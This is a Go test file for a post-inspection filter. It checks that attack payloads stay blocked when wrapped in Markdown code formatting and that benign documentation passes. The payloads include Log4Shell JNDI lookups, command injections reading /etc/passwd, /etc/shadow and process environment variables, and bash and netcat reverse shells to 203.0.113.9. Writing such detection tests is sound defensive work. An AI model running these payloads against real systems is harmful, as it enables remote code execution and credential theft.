package inspect

import (
	"strings"
	"testing"
)

// TestCodeStillRead checks that wrapping a payload in Markdown code does
// not hide it from the interpreters that read the bytes, not the Markdown:
// a logger runs a JNDI lookup wherever it is, and to a shell a backtick
// (a code span, a fence) is command substitution. Each payload is sent
// fenced, in a code span and indented, after enough prose to read as free
// text; the documentation that quotes such things in passing (a file API
// opening /etc/passwd, template literals, an installer piped into sh)
// still passes. Removing either whole-value reading fails the payloads.
func TestCodeStillRead(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	const prose = "Here is what I tried on the server, it did not work for me at all."
	wrap := map[string]func(string) string{
		"fenced":    func(p string) string { return "```\n" + p + "\n```\n" + prose },
		"code span": func(p string) string { return prose + " `" + p + "`" },
		"indented":  func(p string) string { return prose + "\n\n    " + p + "\n\n" + prose },
	}
	for _, p := range []string{
		"${jndi:ldap://203.0.113.9/a}",
		"${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.9/a}",
		"127.0.0.1; cat /etc/passwd",
		"127.0.0.1 && tail -n 5 /etc/shadow",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"nc -e /bin/sh 203.0.113.9 4444",
		"; head /proc/self/environ",
	} {
		for how, w := range wrap {
			t.Run(how+" "+p, func(t *testing.T) { wantPostBlocked(t, e, w(p), true) })
		}
	}
	for _, doc := range []string{
		"```js\nimport { readFile } from 'node:fs';\n\nreadFile('/etc/passwd', (err, data) => {\n  if (err) throw err;\n  console.log(data);\n});\n```\n" + prose,
		prose + " Use a template literal: `${user.name} has ${count} new messages`, or nest them: `${a(`'${b}`)}`.",
		"Install it with the script:\n\n```sh\ncurl -fsSL https://deno.land/install.sh | sh\n```\n" + prose,
		prose + " The account list lives in `/etc/passwd` and `getent passwd` reads it; see also `man 5 passwd`.",
	} {
		t.Run("doc "+strings.Fields(doc)[0], func(t *testing.T) { wantPostBlocked(t, e, doc, false) })
	}
}
